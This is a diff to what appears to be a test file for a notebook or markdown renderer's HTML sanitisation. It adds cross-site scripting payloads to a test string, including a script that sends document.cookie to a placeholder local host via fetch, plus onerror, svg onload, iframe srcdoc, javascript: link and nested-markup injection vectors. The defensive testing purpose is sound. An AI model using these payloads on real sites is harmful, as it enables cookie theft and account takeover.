@@ -342,8 +342,13 @@ code("magic", "%matplotlib inline\n%time 1 + 1", outcome="right")
 code("picture", "import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.show()", outcome="right")
 code("awaits", "import asyncio\nawait asyncio.sleep(0.01)", outcome="right")
 # Scripts
+TAKEN = (
+    "window.HACKED = 1; document.title = 'HACKED'; document.cookie = 'HACKED=1';"
+    " fetch('http://127.0.0.1:1/' + document.cookie); alert('HACKED')"
+)
 SCRIPTS = (
-    "<script>window.HACKED = 1</script><img src=x onerror='window.HACKED = 2'><iframe srcdoc='<script>parent.HACKED = 3</script>'></iframe>"
+    f"<script>{TAKEN}</script>"
+    "<img src=x onerror='window.HACKED = 2'><iframe srcdoc='<script>parent.HACKED = 3</script>'></iframe>"
     "<svg onload='window.HACKED = 4'></svg><a href='javascript:window.HACKED = 5' id='bad'>hier</a><details open ontoggle='window.HACKED = 6'>x</details>\n\n"
     "[hier](javascript:window.HACKED=7) ![x](http://127.0.0.1:1/x.png) [a]\n\n[a]: javascript:window.HACKED=8\n\n$\\href{javascript:window.HACKED=9}{x}$\n\n"
     "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.HACKED=10>'>"
